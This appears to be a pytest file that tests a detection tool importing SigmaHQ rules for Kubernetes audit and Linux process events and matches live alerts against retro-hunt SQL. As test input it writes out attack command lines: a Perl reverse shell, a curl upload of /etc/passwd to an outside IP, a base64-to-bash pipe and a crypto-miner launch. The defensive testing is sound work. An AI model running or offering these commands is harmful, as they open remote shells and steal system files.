"""Sigma rules (SigmaHQ, DRL 1.1; copied in tests/data/sigma) through the importer, live and as retro-hunt SQL.

- every Kubernetes audit rule imports and fires on an audit event written for it, in EKS, GKE and AKS shapes
  (native audit.k8s.io Events through the audit normalizer), and the alert names the rule's author;
- the Linux process-creation rules: how many import, and why the others do not;
- on a capture (synthetic cluster activity + the audit events + command lines of known attacks) stored in a real
  embedded ClickHouse, each imported rule's retro-hunt SQL selects exactly the events its live rule matches.
"""

from __future__ import annotations

import itertools
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from cadr.cli import main
from schemas.codec import decode_event, encode
from schemas.records import Event
from sensors.audit.normalize import normalize
from streams.detect import scan_events
from streams.forensics.hunt import hunt, plan_hunt
from streams.forensics.reader import StoreReader
from streams.rules import EvalContext, RuleSet, load_rules
from streams.rules.sigma import import_sigma_dir, sigma_to_rule, write_rule_folder
from streams.store.client import open_client
from streams.store.sink import StoreWriter
from tests.streams.forensics.synth import ClusterModel, generate

REPO = Path(__file__).resolve().parents[3]
DATA = REPO / "tests" / "data" / "sigma"
K8S, LINUX = DATA / "kubernetes_audit", DATA / "linux_process_creation"
T0 = 1_790_000_000_000_000_000

EKS_USER = {
    "username": "arn:aws:sts::111122223333:assumed-role/dev/alice",
    "groups": ["system:authenticated"],
}
GKE_USER = {"username": "dev@example.com", "groups": ["system:authenticated"]}
AKS_USER = {"username": "bob@contoso.onmicrosoft.com", "groups": ["system:authenticated"]}
_ids = itertools.count()


def audit(
    verb: str,
    resource: str,
    user: dict[str, Any],
    *,
    code: int = 200,
    ns: str = "shop",
    name: str = "x",
    **extra: Any,
) -> dict[str, Any]:
    """A native audit.k8s.io/v1 Event as the API server's webhook backend sends it."""
    n = next(_ids)
    ref = {"resource": resource, "namespace": ns, "name": name, "apiVersion": "v1"}
    ref.update(extra.pop("ref", {}))
    raw = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": f"sigma-{n}",
        "stage": "ResponseComplete",
        "requestURI": extra.pop("uri", f"/api/v1/namespaces/{ns}/{resource}/{name}"),
        "verb": verb,
        "user": user,
        "sourceIPs": ["203.0.113.7"],
        "userAgent": extra.pop("agent", "kubectl/v1.29.2"),
        "objectRef": ref,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2026-12-01T10:00:00.000000Z",
        "stageTimestamp": f"2026-12-01T10:00:{n % 60:02d}.000000Z",
    }
    raw.update(extra)
    return raw


POD_SPEC = {"kind": "Pod", "spec": {"containers": [{"name": "a", "image": "alpine"}]}}
#: one event written for each Kubernetes audit rule of SigmaHQ (file name -> raw audit event)
K8S_EVENTS: dict[str, dict[str, Any]] = {
    "kubernetes_audit_change_admission_controller.yml": audit(
        "create",
        "mutatingwebhookconfigurations",
        EKS_USER,
        code=201,
        ns="",
        ref={"apiGroup": "admissionregistration.k8s.io"},
    ),
    "kubernetes_audit_cronjob_modification.yml": audit(
        "create", "cronjobs", GKE_USER, code=201, ref={"apiGroup": "batch"}
    ),
    "kubernetes_audit_deployment_deleted.yml": audit(
        "delete", "deployments", AKS_USER, ref={"apiGroup": "apps"}
    ),
    "kubernetes_audit_events_deleted.yml": audit("delete", "events", EKS_USER),
    "kubernetes_audit_exec_into_container.yml": audit(
        "create",
        "pods",
        GKE_USER,
        code=101,
        ref={"subresource": "exec"},
        uri="/api/v1/namespaces/shop/pods/x/exec?command=id&container=a&stdout=true",
    ),
    "kubernetes_audit_hostpath_mount.yml": audit(
        "create",
        "pods",
        {"username": "system:serviceaccount:kube-system:replicaset-controller"},
        code=201,
        requestObject={
            "kind": "Pod",
            "spec": {
                "containers": [{"name": "a", "image": "alpine"}],
                "volumes": [{"name": "h", "hostPath": {"path": "/data"}}],
            },
        },
    ),
    "kubernetes_audit_pod_in_system_namespace.yml": audit(
        "create", "pods", AKS_USER, code=201, ns="kube-system", requestObject=POD_SPEC
    ),
    "kubernetes_audit_potential_enumeration_activity.yml": audit(
        "create",
        "pods",
        EKS_USER,
        code=101,
        ref={"subresource": "exec"},
        uri="/api/v1/namespaces/shop/pods/x/exec?command=%2Fbin%2Fbash&command=-c&command=id&container=a",
        annotations={"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    ),
    "kubernetes_audit_privileged_pod_creation.yml": audit(
        "create",
        "pods",
        GKE_USER,
        code=201,
        requestObject={
            "kind": "Pod",
            "spec": {
                "containers": [
                    {
                        "name": "a",
                        "image": "alpine",
                        "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}},
                    }
                ]
            },
        },
    ),
    "kubernetes_audit_rbac_permisions_listing.yml": audit(
        "create",
        "selfsubjectrulesreviews",
        AKS_USER,
        code=201,
        ns="",
        ref={"apiGroup": "authorization.k8s.io"},
    ),
    "kubernetes_audit_rolebinding_modification.yml": audit(
        "create", "rolebindings", EKS_USER, code=201, ref={"apiGroup": "rbac.authorization.k8s.io"}
    ),
    "kubernetes_audit_secrets_enumeration.yml": audit("list", "secrets", GKE_USER, name=""),
    "kubernetes_audit_secrets_modified_or_deleted.yml": audit("delete", "secrets", AKS_USER),
    "kubernetes_audit_serviceaccount_creation.yml": audit("create", "serviceaccounts", EKS_USER, code=201),
    "kubernetes_audit_sidecar_injection.yml": audit(
        "patch",
        "deployments",
        GKE_USER,
        ref={"apiGroup": "apps"},
        requestObject=[{"op": "add", "path": "/x"}],
    ),
    "kubernetes_audit_unauthorized_unauthenticated_actions.yml": audit(
        "get", "secrets", {"username": "system:anonymous", "groups": ["system:unauthenticated"]}, code=403
    ),
}

#: command lines of known attacks for a few process-creation rules (file name -> (exe, args))
LINUX_EVENTS: dict[str, tuple[str, list[str]]] = {
    "proc_creation_lnx_base64_execution.yml": ("/bin/sh", ["sh", "-c", "echo aWQK | base64 -d | bash"]),
    "proc_creation_lnx_crypto_mining.yml": (
        "/tmp/xmrig",
        ["/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333"],
    ),
    "proc_creation_lnx_perl_reverse_shell.yml": (
        "/usr/bin/perl",
        [
            "perl",
            "-e",
            'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
        ],
    ),
    "proc_creation_lnx_susp_curl_fileupload.yml": (
        "/usr/bin/curl",
        ["curl", "-F", "f=@/etc/passwd", "http://203.0.113.9/u"],
    ),
}


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    out = tmp_path_factory.mktemp("sigma-rules")
    result = import_sigma_dir(DATA)
    for draft in result.drafts:
        write_rule_folder(draft, out)
    return load_rules([out], include_builtin=True)


def _sigma_rules(ruleset: RuleSet) -> list[str]:
    return sorted(r.id for r in ruleset.rules if r.origin.startswith("sigma:"))


def _id_of(path: Path) -> str:
    return sigma_to_rule(path.read_text(), str(path)).data["id"]


def test_every_kubernetes_audit_rule_imports() -> None:
    result = import_sigma_dir(K8S)
    assert (len(result.drafts), result.failures) == (16, [])


def test_process_creation_import_report() -> None:
    result = import_sigma_dir(LINUX)
    print(f"\n{len(result.drafts)} of 122 process-creation rules import; not imported: {result.reasons()}")
    assert len(result.drafts) + len(result.failures) == 122
    assert result.reasons() == {"field not recorded: ParentCommandLine": 6, "field not recorded: User": 2}


@pytest.mark.parametrize("name", sorted(K8S_EVENTS))
def test_each_kubernetes_audit_rule_fires_on_an_event_written_for_it(imported: RuleSet, name: str) -> None:
    rule = imported.get(_id_of(K8S / name))
    event = normalize(K8S_EVENTS[name], cluster="prod")
    alerts = scan_events([event], rules=RuleSet(rules=[rule], compiler=imported.compiler))
    assert [a.rule_id for a in alerts] == [rule.id]
    # the DRL: the rule's author is carried into the alert, typed and in the sentence every output shows
    author = rule.author
    assert author and alerts[0].rule_author == author
    assert alerts[0].message.endswith(f"by {author}, DRL 1.1]")


def test_imported_k8s_rules_stay_quiet_on_a_plain_read(imported: RuleSet) -> None:
    read = normalize(audit("get", "configmaps", GKE_USER), cluster="prod")
    sigma = RuleSet(rules=[imported.get(i) for i in _sigma_rules(imported)], compiler=imported.compiler)
    assert scan_events([read], rules=sigma) == []


def _capture() -> list[Event]:
    """A capture: synthetic cluster activity, the audit events above and attack command lines."""
    events = [decode_event(v) for _, v in generate(3000, ClusterModel(namespaces=2, seed=5), attack_at=0.5)]
    events += [normalize(raw, cluster="prod") for raw in K8S_EVENTS.values()]
    workload = {
        "cluster": "prod",
        "namespace": "shop",
        "pod": "api-1",
        "container": "api",
        "container_id": "c1",
    }
    for i, (exe, args) in enumerate(LINUX_EVENTS.values()):
        events.append(
            decode_event(
                {
                    "event_id": f"lx-{i}",
                    "time": T0 + i,
                    "source": "ebpf",
                    "kind": "process_exec",
                    "workload": workload,
                    "process": {"pid": 100 + i, "exe": exe, "args": args},
                }
            )
        )
    return [msgspec.structs.replace(e, event_id=f"cap-{n}", time=T0 + n * 1000) for n, e in enumerate(events)]


CAPTURE = _capture()


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> StoreReader:
    dsn = f"chdb://{tmp_path_factory.mktemp('sigma-store') / 'store'}"
    with StoreWriter(dsn) as writer:
        writer.open()
        assert writer.write_events([encode(e) for e in CAPTURE]).inserted == len(CAPTURE)
    reader = StoreReader(open_client(dsn, readonly=True), "cadr", route="test")
    yield reader
    reader.close()


def test_live_and_retro_hunt_give_the_same_hits_for_every_imported_rule(
    imported: RuleSet, store: StoreReader
) -> None:
    fired: dict[str, int] = {}
    for rule_id in _sigma_rules(imported):
        rule = imported.get(rule_id)
        live = {e.event_id for e in CAPTURE if e.kind in rule.kinds and rule.predicate(EvalContext(event=e))}
        plan = plan_hunt(imported, rule)
        assert plan.condition.exact, (rule_id, plan.condition.approximated)
        rows = store.rows(plan.sql.replace("SELECT raw", "SELECT event_id", 1), {"since": 0, "until": T0 * 2})
        assert {r[0] for r in rows} == live, rule_id
        if live:
            fired[rule_id] = len(live)
    # the capture exercises the rules: every audit rule and each attack command line hit
    expected = {_id_of(K8S / n) for n in K8S_EVENTS} | {_id_of(LINUX / n) for n in LINUX_EVENTS}
    assert expected <= set(fired), sorted(expected - set(fired))


def test_hunt_prints_the_hits_as_alerts_with_the_author(imported: RuleSet, store: StoreReader) -> None:
    rule = imported.get(_id_of(LINUX / "proc_creation_lnx_base64_execution.yml"))
    result = hunt(store, imported, rule, 0, T0 * 2)
    live = scan_events(CAPTURE, rules=RuleSet(rules=[rule], compiler=imported.compiler))
    assert [a.alert_id for a in result.alerts] == sorted({a.alert_id for a in live})
    assert result.alerts and all(a.rule_author == "pH-T (Nextron Systems)" for a in result.alerts)


def test_cli_import_sigma_and_hunt_sigma(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("CADR_CONFIG", raising=False)
    assert main(["rules", "import-sigma", str(DATA), "--output", str(tmp_path / "out")]) == 0
    out = capsys.readouterr().out
    assert out.startswith("130 of 138 Sigma rules imported")
    assert "field not recorded: ParentCommandLine  6" in out
    assert len(list((tmp_path / "out").rglob("rule.yaml"))) == 130
    # a store holding the capture, written by another process (one embedded engine per process), then
    # `cadr hunt --sigma FILE` as a user runs it, reading the store directory
    data = tmp_path / "state"
    capture = tmp_path / "capture.jsonl"
    capture.write_bytes(b"".join(encode(e) + b"\n" for e in CAPTURE))
    write = (
        "import sys; from streams.store.sink import StoreWriter\n"
        "w = StoreWriter(sys.argv[1]).open()\n"
        "r = w.write_events(open(sys.argv[2], 'rb').read().splitlines()); w.close()\n"
        "print(r.inserted)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", write, f"chdb://{(data / 'store').resolve()}", str(capture)],
        capture_output=True,
        text=True,
        timeout=240,
        cwd=REPO,
    )
    assert done.stdout.strip() == str(len(CAPTURE)), done.stderr
    rule_file = K8S / "kubernetes_audit_secrets_enumeration.yml"
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "cadr.cli",
            "--data-dir",
            str(data),
            "hunt",
            "--sigma",
            str(rule_file),
            "--since",
            "0",
            "--until",
            str(T0 * 2),
            "--show-sql",
        ],
        capture_output=True,
        text=True,
        timeout=240,
        cwd=REPO,
        env={**os.environ, "CADR_CONFIG": ""},
    )
    assert run.returncode == 0, run.stderr
    assert "dev@example.com list secrets" in run.stdout
    assert "by Leo Tsaousis (@laripping), DRL 1.1]" in run.stdout
    assert re.search(r" (\d+) events selected by SQL \(exact\), \1 matched, 0 unreadable", run.stderr), (
        run.stderr
    )
    assert "SELECT raw FROM cadr.events" in run.stderr
    # a cadr rule, its hits correlated into a story: the synthetic capture's attacker execs into shop-api
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "cadr.cli",
            "--data-dir",
            str(data),
            "hunt",
            "--rule",
            "CADR-K8S-0001",
            "--since",
            "0",
            "--until",
            str(T0 * 2),
            "--stories",
        ],
        capture_output=True,
        text=True,
        timeout=240,
        cwd=REPO,
        env={**os.environ, "CADR_CONFIG": ""},
    )
    assert run.returncode == 0, run.stderr
    assert "mallory@example.com" in run.stdout and "stories" in run.stderr
